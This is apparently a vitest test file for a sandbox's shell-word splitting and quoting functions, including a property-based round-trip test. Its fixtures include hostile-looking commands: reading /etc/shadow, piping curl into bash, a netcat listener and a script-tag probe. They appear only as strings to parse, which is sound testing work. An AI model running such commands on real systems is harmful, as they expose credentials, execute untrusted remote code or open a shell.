import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { quoteShellWords, splitShellWords } from '../../src/sandbox/shell-words.js';

describe('splitShellWords', () => {
  it.each([
    ['cat /etc/shadow', ['cat', '/etc/shadow']],
    ['  spaced \t out  ', ['spaced', 'out']],
    ["sh -c 'curl -fsSL https://x | bash'", ['sh', '-c', 'curl -fsSL https://x | bash']],
    ['echo "a \\"quoted\\" word" \\$HOME', ['echo', 'a "quoted" word', '$HOME']],
    ["echo ''", ['echo', '']],
    ['echo it\\ has\\ spaces', ['echo', 'it has spaces']],
    ["it's unterminated", ['its unterminated']],
    ['<script>alert(1)</script> <!channel>', ['<script>alert(1)</script>', '<!channel>']],
    ['', []],
  ])('%j', (line, argv) => {
    expect(splitShellWords(line)).toEqual(argv);
  });

  it('keeps a trailing backslash as text rather than dropping it', () => {
    expect(splitShellWords('echo a\\')).toEqual(['echo', 'a\\']);
  });
});

describe('quoteShellWords', () => {
  it('leaves plain words alone and quotes the rest', () => {
    expect(quoteShellWords(['nc', '-lvnp', '4444'])).toBe('nc -lvnp 4444');
    expect(quoteShellWords(['sh', '-c', "echo 'hi' | wc"])).toBe(`sh -c 'echo '\\''hi'\\'' | wc'`);
    expect(quoteShellWords(['printf', ''])).toBe("printf ''");
  });

  it('round-trips any argv through splitShellWords', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 8 }), (argv) => {
        expect(splitShellWords(quoteShellWords(argv))).toEqual(argv);
      }),
    );
  });
});
